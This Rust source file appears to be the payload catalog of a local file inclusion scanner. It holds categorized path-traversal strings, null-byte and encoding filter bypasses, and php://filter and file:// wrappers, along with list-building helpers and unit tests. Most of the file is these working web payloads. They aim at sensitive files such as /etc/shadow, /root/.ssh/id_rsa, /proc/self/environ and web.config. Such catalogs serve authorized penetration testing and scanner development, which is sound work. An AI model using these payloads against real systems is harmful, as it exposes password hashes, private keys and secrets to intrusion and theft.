//! Categorized LFI payload catalog

use crate::models::{PayloadCategory, PayloadCategoryId};
use std::collections::HashSet;

const BASIC_TRAVERSAL: &[&str] = &[
    "../etc/passwd",
    "../../etc/passwd",
    "../../../etc/passwd",
    "../../../../etc/passwd",
    "../../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "../../../windows/win.ini",
    "....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "....\\\\....\\\\....\\\\windows\\\\win.ini",
    "./../../../etc/passwd",
    "/../../../etc/passwd",
    "..//..//..//etc/passwd",
];

const DEEP_TRAVERSAL: &[&str] = &[
    "../../../../../../etc/passwd",
    "../../../../../../../etc/passwd",
    "../../../../../../../../etc/passwd",
    "../../../../../../../../../etc/passwd",
    "../../../../../../../../../../etc/passwd",
    "../../../../../../../../../../../../etc/passwd",
    "../../../../../../../../../../../../../../../../etc/passwd",
    "....//....//....//....//....//....//etc/passwd",
    "....//....//....//....//....//....//....//....//etc/passwd",
    "..\\..\\..\\..\\..\\..\\windows\\win.ini",
    "..\\..\\..\\..\\..\\..\\..\\..\\windows\\win.ini",
    "../../../../../../windows/win.ini",
    "../../../../../../../../windows/win.ini",
    "/var/www/../../../../../../etc/passwd",
];

const NULL_BYTE: &[&str] = &[
    "../../../etc/passwd%00",
    "../../../etc/passwd%00.php",
    "../../../etc/passwd%00.html",
    "../../../etc/passwd%00.jpg",
    "../../../../../../etc/passwd%00",
    "../../../../../../etc/passwd%00.php",
    "/etc/passwd%00",
    "/etc/passwd%00.php",
    "../../../windows/win.ini%00",
    "../../../windows/win.ini%00.php",
    "..\\..\\..\\windows\\win.ini%00",
    "../../../etc/passwd\0",
];

const ENCODING_BYPASS: &[&str] = &[
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "..%c1%9c..%c1%9c..%c1%9cetc%c1%9cpasswd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "..%255c..%255c..%255cwindows%255cwin.ini",
    "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
    "..%u2216..%u2216..%u2216etc%u2216passwd",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=index.php",
    "php://filter/resource=/etc/passwd",
    "file:///etc/passwd",
];

const OS_LINUX: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/group",
    "/etc/hosts",
    "/etc/issue",
    "/etc/hostname",
    "/proc/self/environ",
    "/proc/version",
    "/proc/self/cmdline",
    "/etc/apache2/apache2.conf",
    "/etc/httpd/conf/httpd.conf",
    "/etc/nginx/nginx.conf",
    "/etc/php/php.ini",
    "/var/log/apache2/access.log",
    "/root/.ssh/id_rsa",
    "../../../proc/self/environ",
    "../../../etc/shadow",
    "../../../etc/hosts",
];

const OS_WINDOWS: &[&str] = &[
    "C:\\windows\\win.ini",
    "C:/windows/win.ini",
    "C:\\windows\\system.ini",
    "C:\\boot.ini",
    "C:/boot.ini",
    "C:\\windows\\system32\\drivers\\etc\\hosts",
    "C:\\inetpub\\wwwroot\\web.config",
    "C:\\xampp\\php\\php.ini",
    "C:\\windows\\php.ini",
    "..\\..\\..\\..\\boot.ini",
    "..\\..\\..\\windows\\system.ini",
    "../../../../boot.ini",
    "\\\\localhost\\c$\\windows\\win.ini",
];

static CATEGORIES: [PayloadCategory; 6] = [
    PayloadCategory {
        id: PayloadCategoryId::BasicTraversal,
        label: "Basic Traversal",
        description: "Short ../ sequences toward well-known system files",
        payloads: BASIC_TRAVERSAL,
    },
    PayloadCategory {
        id: PayloadCategoryId::DeepTraversal,
        label: "Deep Traversal",
        description: "Long traversal chains for deeply nested document roots",
        payloads: DEEP_TRAVERSAL,
    },
    PayloadCategory {
        id: PayloadCategoryId::NullByte,
        label: "Null Byte",
        description: "Null byte terminators that cut off appended extensions",
        payloads: NULL_BYTE,
    },
    PayloadCategory {
        id: PayloadCategoryId::EncodingBypass,
        label: "Encoding Bypass",
        description: "URL, double, overlong UTF-8 and wrapper encodings that evade filters",
        payloads: ENCODING_BYPASS,
    },
    PayloadCategory {
        id: PayloadCategoryId::OsLinux,
        label: "Linux Files",
        description: "Absolute and relative paths to Unix system and server files",
        payloads: OS_LINUX,
    },
    PayloadCategory {
        id: PayloadCategoryId::OsWindows,
        label: "Windows Files",
        description: "Drive, UNC and relative paths to Windows system files",
        payloads: OS_WINDOWS,
    },
];

/// Returns the full catalog in declaration order
pub fn categories() -> &'static [PayloadCategory] {
    &CATEGORIES
}

/// Looks up a single category
pub fn category(id: PayloadCategoryId) -> &'static PayloadCategory {
    // The table is declared in the same order as `PayloadCategoryId::ALL`
    &CATEGORIES[id as usize]
}

/// Flattens the selected categories (all when `selected` is empty) into a
/// deduplicated list, keeping first-seen order.
pub fn build_payload_list(selected: &[PayloadCategoryId]) -> Vec<String> {
    let mut seen = HashSet::new();
    CATEGORIES
        .iter()
        .filter(|c| selected.is_empty() || selected.contains(&c.id))
        .flat_map(|c| c.payloads.iter())
        .filter(|p| seen.insert(**p))
        .map(|p| p.to_string())
        .collect()
}

/// Unions the catalog list with an external wordlist and caps the result.
/// Wordlist lines are trimmed; blank and `#` comment lines are skipped.
pub fn merge_payloads(catalog: Vec<String>, external: Option<&[String]>, cap: usize) -> Vec<String> {
    let mut seen = HashSet::new();
    let external = external
        .unwrap_or_default()
        .iter()
        .map(|l| l.trim().to_string())
        .filter(|l| !l.is_empty() && !l.starts_with('#'));

    catalog
        .into_iter()
        .chain(external)
        .filter(|p| seen.insert(p.clone()))
        .take(cap)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_category_table_matches_ids() {
        for id in PayloadCategoryId::ALL {
            assert_eq!(category(id).id, id);
            assert!(!category(id).payloads.is_empty());
        }
    }

    #[test]
    fn test_all_categories_when_none_selected() {
        let all = build_payload_list(&[]);
        let explicit = build_payload_list(&PayloadCategoryId::ALL);
        assert_eq!(all, explicit);
        assert_eq!(all[0], BASIC_TRAVERSAL[0]);
    }

    #[test]
    fn test_no_duplicates_and_members_of_selection() {
        let selections: Vec<Vec<PayloadCategoryId>> = vec![
            vec![],
            vec![PayloadCategoryId::OsLinux],
            vec![PayloadCategoryId::BasicTraversal, PayloadCategoryId::OsLinux],
            vec![PayloadCategoryId::OsWindows, PayloadCategoryId::NullByte],
        ];

        for selection in selections {
            let list = build_payload_list(&selection);
            let unique: HashSet<_> = list.iter().collect();
            assert_eq!(unique.len(), list.len(), "duplicates for {selection:?}");

            for payload in &list {
                let allowed = categories()
                    .iter()
                    .filter(|c| selection.is_empty() || selection.contains(&c.id))
                    .any(|c| c.payloads.contains(&payload.as_str()));
                assert!(allowed, "{payload} not in selection {selection:?}");
            }
        }
    }

    #[test]
    fn test_declaration_order_not_argument_order() {
        let a = build_payload_list(&[PayloadCategoryId::OsLinux, PayloadCategoryId::BasicTraversal]);
        let b = build_payload_list(&[PayloadCategoryId::BasicTraversal, PayloadCategoryId::OsLinux]);
        assert_eq!(a, b);
        // "/etc/passwd" appears in both; first seen under basic traversal
        assert!(a.iter().position(|p| p == "/etc/passwd") < a.iter().position(|p| p == "/etc/shadow"));
    }

    #[test]
    fn test_build_is_deterministic() {
        assert_eq!(build_payload_list(&[]), build_payload_list(&[]));
    }

    #[test]
    fn test_merge_dedupes_and_caps() {
        let catalog = vec!["a".to_string(), "b".to_string()];
        let external = vec![
            "b".to_string(),
            "  c  ".to_string(),
            "".to_string(),
            "# comment".to_string(),
            "d".to_string(),
        ];
        let merged = merge_payloads(catalog.clone(), Some(&external), 10);
        assert_eq!(merged, vec!["a", "b", "c", "d"]);

        let capped = merge_payloads(catalog, Some(&external), 3);
        assert_eq!(capped, vec!["a", "b", "c"]);
    }

    #[test]
    fn test_merge_without_external_falls_back_to_catalog() {
        let catalog = build_payload_list(&[PayloadCategoryId::NullByte]);
        let merged = merge_payloads(catalog.clone(), None, 500);
        assert_eq!(merged, catalog);
    }
}
